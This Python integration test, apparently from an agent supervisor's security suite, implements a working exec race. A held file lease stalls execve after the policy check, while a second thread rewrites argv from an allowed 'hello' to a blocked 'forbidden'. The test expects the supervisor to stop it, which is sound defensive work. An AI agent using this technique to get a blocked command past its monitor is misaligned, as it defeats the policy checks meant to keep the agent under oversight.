# Attack (review 6, stopped): an exec can be held inside the kernel after the supervisor's CONTINUE,
# with its path already looked up and its file opened but its argv not yet copied (the kernel opens
# the program before it copies the strings): a separate process of the agent holds a write lease
# (F_SETLEASE F_WRLCK; root has CAP_LEASE) on /usr/bin/echo, and the exec's open waits in
# break_lease until that process lets the lease go (here 1.5 s after its SIGIO says the break has
# begun) or lease-break-time (45 s) passes. The calling thread first drops to uid 65534 on its own
# (a raw setresuid changes only that thread's credentials), so no task with its credentials could
# rename anything on the way to /usr/bin/echo and only the tasks sharing its memory are stopped: the
# lease holder runs on. The caller's other thread starts rewriting argv[1] ("hello" -> "forbidden",
# blocked by cmd_pattern) 0.3 s after the call, i.e. only if it is let go while the exec waits.
# The freeze must hold it until the exec is over (the stall is a wait inside execve, not its end).
# Output: how many attempts printed "forbidden", and how long the exec was held.
# irongate: {"args": ["--profile", "trusted", "--policy", "{ROOT}/integration/policies/bypass_trusted.json"], "exit": 0, "timeout": 150, "stdout": ["forbidden_printed=0 "]}
# no-event: {"decision": "allow", "action": {"type": "process", "argv": ["echo", "forbidden"]}}
import ctypes, fcntl, os, signal, sys, threading, time
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from child_output import output_until  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.syscall.restype = ctypes.c_long
ATTEMPTS = int(sys.argv[1]) if len(sys.argv) > 1 else 2
HOLD = float(sys.argv[2]) if len(sys.argv) > 2 else 1.5
PROG = b"/usr/bin/echo"
F_SETLEASE = 1024
SYS_setresuid, SYS_execve = 117, 59
B = 0x7e0000000000


def holder(w):
    """Takes the write lease, says so, and lets it go HOLD seconds after the break begins."""
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGIO])
    fd = os.open(PROG, os.O_RDONLY)
    try:
        fcntl.fcntl(fd, F_SETLEASE, fcntl.F_WRLCK)
    except OSError as e:
        os.write(w, b"E%d\n" % e.errno)
        os._exit(0)
    os.write(w, b"L\n")
    if signal.sigtimedwait([signal.SIGIO], 20) is not None:
        time.sleep(HOLD)
    fcntl.fcntl(fd, F_SETLEASE, fcntl.F_UNLCK)
    os._exit(0)


def attempt():
    r, w = os.pipe()
    h = os.fork()
    if h == 0:
        os.close(r)
        holder(w)
    os.close(w)
    said = os.read(r, 16)
    os.close(r)
    if not said.startswith(b"L"):
        os.waitpid(h, 0)
        return b"lease-unavailable " + said.strip()
    r_out, w_out = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(w_out, 1)
        os.dup2(w_out, 2)
        if libc.mmap(B, 0x4000, 3, 0x22 | 0x100000, -1, 0) != B:
            os.write(1, b"MMAP-FAILED\n")
            os._exit(1)
        ctypes.memmove(B + 0x1000, b"hello\0\0\0\0\0", 10)
        ctypes.memmove(B + 0x1100, b"echo\0", 5)
        ctypes.memmove(B + 0x1200, PROG + b"\0", len(PROG) + 1)
        argv = (ctypes.c_uint64 * 3).from_address(B + 0x2000)
        argv[0], argv[1], argv[2] = B + 0x1100, B + 0x1000, 0
        envp = (ctypes.c_uint64 * 1).from_address(B + 0x2100)
        envp[0] = 0
        go = time.monotonic() + 0.3

        def rewriter():
            while time.monotonic() < go:
                pass
            end = go + 10
            while time.monotonic() < end:
                ctypes.memmove(B + 0x1000, b"forbidden\0", 10)

        threading.Thread(target=rewriter, daemon=True).start()
        # This thread alone becomes uid 65534 (no capabilities): the name is "fixed" for it.
        if libc.syscall(SYS_setresuid, 65534, 65534, 65534) != 0:
            os.write(1, b"SETRESUID-FAILED errno=%d\n" % ctypes.get_errno())
        t0 = time.monotonic()
        libc.syscall(SYS_execve, ctypes.c_uint64(B + 0x1200), ctypes.c_uint64(B + 0x2000), ctypes.c_uint64(B + 0x2100))
        os.write(1, b"EXECVE-FAILED errno=%d after %.2fs\n" % (ctypes.get_errno(), time.monotonic() - t0))
        os._exit(1)
    os.close(w_out)
    t0 = time.monotonic()
    out = output_until(r_out, pid, 40)
    took = time.monotonic() - t0
    try:
        os.kill(h, 9)
    except OSError:
        pass
    os.waitpid(h, 0)
    return out.strip() + b" (%.1fs)" % took


counts = {"forbidden": 0, "hello": 0, "other": 0}
seen = []
for _ in range(ATTEMPTS):
    out = attempt()
    seen.append(out[:60].decode(errors="replace"))
    if out.startswith(b"forbidden"):
        counts["forbidden"] += 1
    elif out.startswith(b"hello"):
        counts["hello"] += 1
    else:
        counts["other"] += 1
print(f"forbidden_printed={counts['forbidden']} hello={counts['hello']} other={counts['other']} {seen}")
